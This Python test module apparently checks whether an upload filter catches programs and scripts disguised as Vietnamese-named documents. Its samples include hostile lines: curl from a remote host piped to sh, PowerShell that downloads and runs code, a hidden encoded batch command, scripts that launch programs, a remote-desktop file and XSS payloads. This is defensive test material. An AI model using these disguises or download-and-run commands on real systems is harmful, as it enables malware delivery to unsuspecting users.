"""Programs, scripts and pages under the names of documents, and documents that are something else."""

from __future__ import annotations

import struct
from collections.abc import Callable

from tests.attacks.archive_builder import zipped
from tests.attacks.attack import Attack
from tests.attacks.ole_builder import compound
from tests.documents import decision_docx

FORMAT = frozenset({"allowed_format"})
PDF, WORD, TEXT, OCTETS = "application/pdf", "application/msword", "text/plain", "application/octet-stream"


def program(machine: int = 0x8664) -> bytes:
    """The headers of a Windows program and some code."""
    dos = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff".ljust(0x3C, b"\0") + struct.pack("<I", 0x80)
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", machine, 1, 0, 0, 0, 0xF0, 0x22)
    return dos.ljust(0x80, b"\0") + coff + struct.pack("<H", 0x20B) + bytes(0xEE) + b"\x90\xc3" * 200


def elf() -> bytes:
    """The header of a Linux program."""
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(40) + b"\x90\xc3" * 50


def iso() -> bytes:
    """An optical disk with a volume descriptor."""
    return bytes(0x8000) + b"\x01CD001\x01\x00" + bytes(2040) + b"\xffCD001\x01" + bytes(4096)


def vhd() -> bytes:
    """A hard disk with a boot record, and the footer of Windows' virtual disks."""
    boot = bytes(446) + b"\x80\x01\x01\x00\x07" + bytes(11) + bytes(48) + b"\x55\xaa"
    return boot + bytes(4096) + b"conectix".ljust(512, b"\0")


_HTML = b"<html><head><script>location='http://203.0.113.7/'</script></head></html>"
_BAT = b"@echo off\r\npowershell -w hidden -enc SQBFAFgA\r\ndel %0\r\n"
_PS1 = (
    b"$u = 'http://203.0.113.7/a'\r\n$w = New-Object Net.WebClient\r\n"
    b"$c = $w.DownloadString($u)\r\nInvoke-Expression $c\r\n"
)
_VBS = (
    b'Set sh = CreateObject("WScript.Shell")\r\nOn Error Resume Next\r\n'
    b'sh.Run "calc.exe", 0, False\r\nSet sh = Nothing\r\n'
)
_JS = b'var s = new ActiveXObject("WScript.Shell");\r\ns.Run("calc.exe");\r\n'
_HTA = b'<HTA:APPLICATION ID="x">\r\n<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>\r\n'
_MHT = (
    b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
    + _HTML
    + b"\r\n--b--\r\n"
)
_FLAT = (
    b'<?xml version="1.0" standalone="yes"?>\r\n<?mso-application progid="Word.Document"?>\r\n'
    b'<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" w:macrosPresent="yes">'
    b"<w:body/></w:wordDocument>"
)
_SETTING = (
    b'<?xml version="1.0" encoding="UTF-8"?><PCSettings><SearchableContent><ApplicationInformation>'
    b"<DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink>"
    b"</ApplicationInformation></SearchableContent></PCSettings>"
)
_LIBRARY = b'<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"/>'
_LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(60)
_ONE = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + bytes(1000)
_RDP = b"full address:s:203.0.113.7\r\nremoteapplicationmode:i:1\r\nprompt for credentials:i:0\r\n"


def _msi() -> bytes:
    return compound({"\u4840\u3b3f\u43f2\u4438\u45b1": bytes(100), "\x05SummaryInformation": bytes(100)})


def _xlsb() -> bytes:
    main = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
    types = f'<Types><Override PartName="/xl/workbook.bin" ContentType="{main}"/></Types>'
    relations = '<Relationships><Relationship Target="xl/workbook.bin" Type="http://x/officeDocument"/></Relationships>'
    parts = {"[Content_Types].xml": types, "_rels/.rels": relations, "xl/workbook.bin": "\x83\x01\x00"}
    return zipped({name: content.encode() for name, content in parts.items()})


def _attack(name: str, file_name: str, make: Callable[[], bytes] | bytes, declared: str = OCTETS) -> Attack:
    content = make if callable(make) else lambda: make
    return Attack(name, "types", file_name, declared, content, FORMAT)


ATTACKS = (
    _attack("pe-as-pdf", "Quyet dinh 955.pdf", program, PDF),
    _attack("pe-as-doc", "Cong van.doc", program, WORD),
    _attack("pe-as-jpg", "anh.jpg", program, "image/jpeg"),
    _attack("pe-as-txt", "doc ngay.txt", program, TEXT),
    _attack("pe-without-a-name", "", program),
    _attack("pe-of-arm", "Bao cao.xlsx", lambda: program(0xAA64)),
    _attack("dll-as-xll", "bang.xll", program, "application/vnd.ms-excel"),
    _attack("word-addin", "mau.wll", program, WORD),
    _attack("cad-module", "cong cu.arx", program),
    _attack("screen-saver", "anh cau.scr", program),
    _attack("elf-as-pdf", "Quyet dinh.pdf", elf, PDF),
    _attack("macho-as-dwg", "ban ve.dwg", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(400)),
    _attack("dos-com", "in an.com", b"\xb4\x09\xba\x09\x01\xcd\x21\xcd\x20Xin chao$"),
    _attack("msi-as-doc", "Cong van.doc", _msi, WORD),
    _attack("msi", "cai dat.msi", _msi),
    _attack("shell-script-as-txt", "huong dan.txt", b"#!/bin/sh\ncurl http://203.0.113.7/a | sh\n", TEXT),
    _attack("env-script-as-csv", "bang.csv", b"#! /usr/bin/env python3\nimport os\nos.system('id')\n", "text/csv"),
    _attack("batch", "cai dat.bat", _BAT, TEXT),
    _attack("batch-as-txt", "huong dan.txt", _BAT, TEXT),
    _attack("powershell", "chay.ps1", _PS1, TEXT),
    _attack("powershell-as-txt", "ghi chu.txt", _PS1, TEXT),
    _attack("vbs", "Thong bao.vbs", _VBS, TEXT),
    _attack("vbs-as-txt", "Thong bao.txt", _VBS, TEXT),
    _attack("vbs-encoded-as-txt", "a.txt", b"#@~^TAAAAA==jY~kt{;DnCD+64N+^Yvr    ", TEXT),
    _attack("js", "Hoa don.js", _JS, "application/javascript"),
    _attack("js-as-csv", "Hoa don.csv", _JS, "text/csv"),
    _attack("hta", "Giay moi.hta", _HTA, "text/html"),
    _attack("hta-as-txt", "Giay moi.txt", _HTA, TEXT),
    _attack("hta-as-pdf", "Giay moi.pdf", _HTA, PDF),
    _attack("html-as-doc", "Cong van.doc", _HTML, WORD),
    _attack("html-as-xls", "Bang.xls", b"\xef\xbb\xbf  <table><tr><td>1</td></tr></table>", "application/vnd.ms-excel"),
    _attack("html-utf16-as-txt", "a.txt", ("\ufeff" + _HTML.decode()).encode("utf-16-le"), TEXT),
    _attack("html-image-tag-as-txt", "a.txt", b"<img src=x onerror=alert(1)>", TEXT),
    _attack("mhtml-as-doc", "Cong van.doc", _MHT, WORD),
    _attack("svg-as-png", "so do.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/png"),
    _attack("word-xml-as-doc", "Cong van.doc", _FLAT, WORD),
    _attack("settings-content", "May in.settingcontent-ms", _SETTING),
    _attack("library-description", "Tai lieu.library-ms", _LIBRARY),
    _attack("one-click-application", "Cai dat.appref-ms", "http://203.0.113.7/a.application#a".encode("utf-16")),
    _attack("shortcut", "Quyet dinh.pdf.lnk", _LNK),
    _attack("shortcut-as-pdf", "Quyet dinh.pdf", _LNK, PDF),
    _attack("internet-shortcut-as-txt", "a.txt", b"[InternetShortcut]\r\nURL=file://203.0.113.7/a.exe\r\n", TEXT),
    _attack("explorer-command-as-txt", "a.txt", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.7\\a.ico\r\n", TEXT),
    _attack(
        "registry-as-txt", "a.txt", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\a]\r\n", TEXT
    ),
    _attack("remote-desktop", "Hop truc tuyen.rdp", _RDP),
    _attack("remote-desktop-as-txt", "Hop truc tuyen.txt", _RDP, TEXT),
    _attack("web-query-as-txt", "bang.txt", b"WEB\r\n1\r\nhttp://203.0.113.7/a\r\n", TEXT),
    _attack("symbolic-link-as-csv", "bang.csv", b'ID;PWXL;N;E\r\nC;Y1;X1;K0;EEXEC("calc")\r\nE\r\n', "text/csv"),
    _attack("java-class", "a.doc", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(200), WORD),
    _attack("jar-as-docx", "a.docx", lambda: zipped({"META-INF/MANIFEST.MF": b"Main-Class: a", "a.class": b"a"})),
    _attack("apk-as-zip", "a.zip", lambda: zipped({"AndroidManifest.xml": b"\x03\x00", "classes.dex": b"dex\n035"})),
    _attack(
        "msix-as-docx", "a.docx", lambda: zipped({"AppxManifest.xml": b"<a/>", "[Content_Types].xml": b"<Types/>"})
    ),
    _attack("xlsb-as-xlsx", "bang.xlsx", _xlsb),
    _attack("html-help-as-pdf", "Huong dan.pdf", b"ITSF\x03\x00\x00\x00" + bytes(200), PDF),
    _attack("iso", "Ho so.iso", iso),
    _attack("iso-as-pdf", "Ho so.pdf", iso, PDF),
    _attack("disk-image", "Ho so.img", vhd),
    _attack("virtual-disk-as-doc", "Ho so.doc", vhd, WORD),
    _attack("onenote", "Ghi chu.one", _ONE),
    _attack("onenote-as-doc", "Ghi chu.doc", _ONE, WORD),
    _attack("compiled-autoit", "a.xls", b"\xa3HK\xbe\x98lJ\xa9\x99LS\x0a\x86\xd6H}" + bytes(200)),
    _attack("autolisp", "acad.lsp", b'(defun S::STARTUP () (startapp "calc.exe"))\r\n', TEXT),
    _attack("autolisp-as-dxf", "ban ve.dxf", b'(defun c:in () (startapp "calc.exe"))\r\n(c:in)\r\n', "image/vnd.dxf"),
    _attack("compiled-autolisp-as-dwg", "ban ve.dwg", b"\r\n FAS4-FILE ; Do not change it!\r\n63\r\n" + bytes(90)),
    _attack("flash-as-gif", "a.gif", b"FWS\x09" + bytes(300), "image/gif"),
    _attack("noise-as-pdf", "Quyet dinh.pdf", bytes(range(256)) * 9, PDF),
    _attack("docx-as-exe", "Cong van.exe", decision_docx),
    _attack(
        "lone-table-of-a-map", "ban do.dbf", b"\x03\x7c\x05\x14" + struct.pack("<IHH", 0, 33, 1) + bytes(20) + b"\r"
    ),
)
